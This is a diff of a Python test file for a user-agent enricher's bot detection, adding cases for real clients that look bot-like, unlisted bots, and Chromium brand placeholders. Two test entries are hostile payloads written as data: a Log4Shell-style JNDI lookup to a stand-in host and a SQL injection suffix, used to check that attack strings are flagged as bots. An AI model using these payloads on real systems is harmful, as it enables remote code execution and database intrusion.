@@ -12,11 +12,13 @@ from crawleruseragents import CRAWLER_USER_AGENTS_DATA
 from hypothesis import given
 from hypothesis import strategies as st
 
+from benchmarks import bots
 from streaming_app.enrichers.base import Enricher
 from streaming_app.enrichers.user_agent import COLUMNS, KEPT, UserAgent
 from streaming_app.enrichers.user_agent.bots import TOO_WIDE
 from streaming_app.enrichers.user_agent.options import UserAgentOptions
 from streaming_app.errors import ConfigError
+from streaming_app.transformers.gtm_server.hints import read_hints as gtm_hints
 
 Row = dict[str, Any]
 
@@ -92,8 +94,8 @@ AGENTS: dict[str, tuple[str | None, ...]] = {
     "Shop/5.1 (iPhone; iOS 16.2; Scale/3.00)": ("Mobile Safari UI/WKWebView", None, "iOS", "16.2", "Mobile", "iPhone", "Apple", "iPhone", None),
     "Shop/5.1 (iPad; iOS 15.1; Scale/2.00)": ("Mobile Safari UI/WKWebView", None, "iOS", "15.1", "Tablet", "iPad", "Apple", "iPad", None),
     "Dart/3.4 (dart:io)": ("Other", None, "Other", None, "Other", "Other", None, None, None),
-    "test": ("Other", None, "Other", None, "Other", "Other", None, None, None),
     # bots
+    "test": ("Other", None, "Other", None, "Bot", "Other", None, None, "signals"),
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.78 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": ("Googlebot", "2.1", "Android", "6.0.1", "Bot", "Spider", "Spider", "Smartphone", "ua-parser, crawler-user-agents"),
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": ("bingbot", "2.0", "Other", None, "Bot", "Spider", "Spider", "Desktop", "ua-parser, crawler-user-agents"),
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)": ("GPTBot", "1.0", "Other", None, "Bot", "Spider", "Spider", "Desktop", "ua-parser, crawler-user-agents"),
@@ -157,6 +159,99 @@ def test_real_user_agents(agent: str) -> None:
     assert tuple(row[name] for name in names) == AGENTS[agent]
     assert row["is_bot"] is (row["bot_source"] is not None) is (row["device_category"] == "Bot")
     assert json.loads(row["device_ua"])["string"] == agent
+
+
+MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36"
+ANDROID = "Mozilla/5.0 (Linux; Android 13; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36"
+PEOPLE_IN_TROUBLE = {
+    "a model that is called a bot": ANDROID.format("M BOT 60"),
+    "a model with a comment in it": ANDROID.format("Spider X (2024) Build/TP1A.220624.014; wv"),
+    "a language before the model": "Mozilla/5.0 (Linux; U; Android 4.4.2; de-de; Crawler T1 Build/KOT49H) AppleWebKit/534.30 Mobile Safari/534.30",
+    "a phone of Cubot": ANDROID.format("CUBOT KINGKONG 9"),
+    "a scanner's app": f"{ANDROID.format('SM-A546B; wv')} DocScanner/7.1",
+    "an app that names its maker": "Weather/4.1 (Android 14; Pixel 8; https://weather.example)",
+    "an app's name and system": "Shop/5.1 iOS/17.5",
+    "the network library of Flutter": "Dart/3.8 (dart:io)",
+    "a game": "UnityPlayer/6000.0.1f1 (UnityWebRequest/1.0, libcurl/8.10.1-DEV)",
+    "an editor": MAC.replace("Chrome/", "Code/1.104.2 Chrome/").replace("Safari/", "Electron/37.3.1 Safari/"),
+    "a bank's Internet Explorer": "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Banca Lambotti; rv:11.0) like Gecko",
+    "Internet Explorer": "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+    "an app's page on a Mac": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "a browser for terminals": "Lynx/2.9.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.13",
+    "a rare system": "Mozilla/5.0 (Haiku x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) WebPositive/1.3 Safari/605.1.15",
+    "a television": "Mozilla/5.0 (DTV) AppleWebKit/531.2+ (KHTML, like Gecko) Espial/6.1.5 AQUOSBrowser/2.0 (US01DTV;V;0001;0001)",
+    "a loudspeaker": "Linux UPnP/1.0 Sonos/81.1-58074 (ZPS45)",
+    "a watch": "atc/1.0 watchOS/7.2 model/Watch5,12 hwp/t8006 build/18S563 (6; dt:234)",
+    "an old phone": "HAIER-M600/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
+    "all that is left of some browsers": "Mozilla/5.0",
+    "a player": "VLC/3.0.21 LibVLC/3.0.21",
+}  # fmt: skip
+"""Genuine clients that look a little like bots."""
+
+UNLISTED_BOTS = {
+    "a word, in any case": "GARDENBOT/0.3",
+    "a word in a browser's agent": f"{MAC} TeaCrawler",
+    "a phone's agent with a word": f"{ANDROID.format('Pixel 8')} (compatible; teaspider/1.1)",
+    "an address": "TeaHouse/2.0 (+https://teahouse.example/why)",
+    "an address in a phone's agent": f"{ANDROID.format('Pixel 8')} +http://teahouse.example",
+    "an address without a scheme": f"{MAC} (teahouse-watch.com)",
+    "a mail address": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; ops@teahouse.example) Gecko/20100101 Firefox/139.0",
+    "a library": "tealib-HttpClient/4.2 (Linux)",
+    "a library in other letters": "PYTHON-requests/3",
+    "a server's program": "teactl/1.4.2 (linux/amd64) go1.24",
+    "a check": "Tea Link Checker 2.1 (Windows)",
+    "a preview": f"{MAC} TeaChat-LinkPreview/1.0",
+    "a monitor": f"{MAC} TeaMonitor",
+    "a browser without a head": MAC.replace("Chrome/", "HEADLESSEDGE/"),
+    "compatible with nothing": "Mozilla/5.0 (compatible; Teapot/1.0)",
+    "a name inside of the engine's comment": MAC.replace("like Gecko)", "like Gecko; Teapot-Render)"),
+    "no platform": "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
+    "cut short": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+    "a header's name": f"User-Agent: {MAC}",
+    "a name before the agent": f"teahouse/1.0, {MAC}",
+    "nothing but a name": "Teapot/1.0",
+    "an attack": "${jndi:ldap://teahouse.example/a}",
+    "another attack": f"{MAC}' UNION ALL SELECT NULL--",
+}
+
+
+GREASE = [f"Not{first}A{second}Brand" for first in " (:-./);=?_" for second in " (:-./);=?_"]
+"""All placeholders that Chromium makes up: https://wicg.github.io/ua-client-hints/#grease."""
+
+
+@pytest.mark.parametrize("place", [0, 1, 2])
+def test_placeholders_are_no_brands(place: int) -> None:
+    """Neither to the enricher nor to the columns of GTM's events, wherever in the lists they are."""
+    for name in [*GREASE, " Not A;Brand", ";Not A Brand", "(Not(A:Brand", '\\Not"A\\Brand']:
+        short, exact = (
+            [{"brand": brand, "version": version} for brand in ("Chromium", "Opera")] for version in ("120", "120.0.1")
+        )
+        for brands in (short, exact):
+            brands.insert(place, {"brand": name, "version": "8.0.0.0"})
+        text = json.dumps({"brands": short, "full_version_list": exact, "platform": "Windows", "mobile": False})
+        columns = gtm_hints(text)
+        assert (columns.device_mobile_brand_name, columns.device_ua_browser) == ("Opera", "Opera"), name
+        assert (columns.device_ua_browser_version, enriched("", text)["browser"]) == ("120.0.1", "Opera"), name
+
+
+@pytest.mark.parametrize("agent", PEOPLE_IN_TROUBLE.values(), ids=PEOPLE_IN_TROUBLE)
+def test_people_are_no_bots(agent: str) -> None:
+    assert (enriched(agent)["bot_source"], enriched(agent)["is_bot"]) == (None, False)
+
+
+@pytest.mark.parametrize("agent", UNLISTED_BOTS.values(), ids=UNLISTED_BOTS)
+def test_bots_that_no_list_knows(agent: str) -> None:
+    """Some of these the lists know too: what counts is that they are found."""
+    assert enriched(agent)["is_bot"] is True
+    assert bots.by_signals(agent)
+
+
+def test_signals_alone_find_what_a_list_knows() -> None:
+    """Signs that hold in general find the list's own examples without it, and take next to no browser for a bot."""
+    found = [bots.by_signals(agent) for agent in bots.bots()]
+    wrong = [agent for agent in bots.browsers() if bots.by_signals(agent)]
+    assert sum(found) >= 0.95 * len(found) > 1_000
+    assert len(wrong) <= 0.005 * len(bots.browsers()), wrong
 
 
 def test_json_text() -> None:
@@ -373,11 +468,11 @@ def test_own_lists(tmp_path: Path) -> None:
     exceptions.write_text("bingbot\n  # ours\nacmechecker/9\n")
     enricher = opened(bot_patterns=str(bots), not_bots=str(exceptions))
     sources = {
-        "AcmeChecker/2": "list",
+        "AcmeChecker/2": "signals, list",
         "acmechecker/9": None,
         "MyApp/1.0 CFNetwork/1496.0.7 Darwin/23.5.0": "list",
         "OtherApp/1.0 CFNetwork/1496.0.7 Darwin/23.5.0": None,
-        "our own shop-probe#2": "list",
+        "our own shop-probe#2": "signals, list",
         GOOGLEBOT: "ua-parser, crawler-user-agents, list",
         "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": None,
         "curl/8.4.0": "crawler-user-agents",
